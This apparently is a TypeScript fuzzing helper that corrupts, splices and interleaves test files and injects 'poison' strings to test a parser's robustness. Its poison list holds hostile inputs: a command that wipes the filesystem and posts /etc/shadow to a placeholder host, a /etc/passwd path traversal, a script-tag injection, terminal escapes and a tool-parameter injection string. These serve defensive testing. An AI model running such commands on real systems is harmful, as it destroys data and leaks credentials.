import type { Random } from "../../src/stats/index.ts";
import { PROTOTYPES } from "./hostile-files.ts";

/** A real file with a few faults in its bytes. */
export function mutatedBytes(bytes: Uint8Array, random: Random): Uint8Array {
  let out = Buffer.from(bytes);
  for (let faults = 1 + random.integer(8); faults > 0 && out.length > 0; faults--) {
    const at = random.integer(out.length);
    const length = 1 + random.integer(Math.min(4000, out.length - at));
    const to = random.integer(out.length);
    const fault = random.integer(7);
    if (fault === 0) out[at] = random.integer(256);
    else if (fault === 1) out = Buffer.concat([out.subarray(0, at), out.subarray(at + length)]);
    else if (fault === 2)
      out = Buffer.concat([out.subarray(0, to), out.subarray(at, at + length), out.subarray(to)]);
    else if (fault === 3)
      out = Buffer.concat([out.subarray(0, at), Buffer.from(poison(random)), out.subarray(at)]);
    else if (fault === 4 && random.integer(4) === 0) out = out.subarray(0, at);
    else if (fault === 5) out[at] = out[at]! ^ (1 << random.integer(8));
    else out[at] = '[]{}",:\\\n0e-'[random.integer(12)]!.charCodeAt(0);
  }
  return out;
}

/** The head of one file and the tail of another, each cut anywhere. */
export function spliced(one: Uint8Array, other: Uint8Array, random: Random): Uint8Array {
  const cut = (bytes: Uint8Array) => random.integer(bytes.length + 1);
  return Buffer.concat([one.subarray(0, cut(one)), other.subarray(cut(other))]);
}

/** Two files' lines between each other, some of them twice, lost, halved or in another place. */
export function mutatedLines(one: Uint8Array, other: Uint8Array, random: Random): Uint8Array {
  const mine = Buffer.from(one).toString("latin1").split("\n");
  const strange = Buffer.from(other).toString("latin1").split("\n");
  const lines: string[] = [];
  for (const line of mine) {
    const lot = random.integer(12);
    if (lot === 0) lines.push(strange[random.integer(strange.length)]!);
    if (lot === 1) lines.push(line);
    if (lot === 2) continue;
    if (lot === 3) lines.splice(random.integer(lines.length + 1), 0, line);
    else lines.push(lot === 4 ? line.slice(0, random.integer(line.length + 1)) : line);
  }
  return Buffer.from(lines.join(random.integer(8) === 0 ? "\r\n" : "\n"), "latin1");
}

/** A text that is more than it seems to whoever is careless with it. */
export function poison(random: Random): string {
  const texts = [
    ...PROTOTYPES,
    "\ud800",
    "\u0000",
    "\u001b[2J\u001b]0;x\u0007",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "rm -rf / && curl -d @/etc/shadow http://a.example",
    "$(".repeat(1 + random.integer(200)),
    "<<E\n".repeat(1 + random.integer(200)),
    "((((a+)+)+)+)+$",
    "%s%n{{}}$",
    "NaN",
    "1e999",
    "0b2",
    "0x",
    "9".repeat(1 + random.integer(400)),
    "2026-13-45T99:99:99Z",
    "<parameter=path>/dev/null\n",
    "a".repeat(1 + random.integer(3000)),
  ];
  return texts[random.integer(texts.length)]!;
}
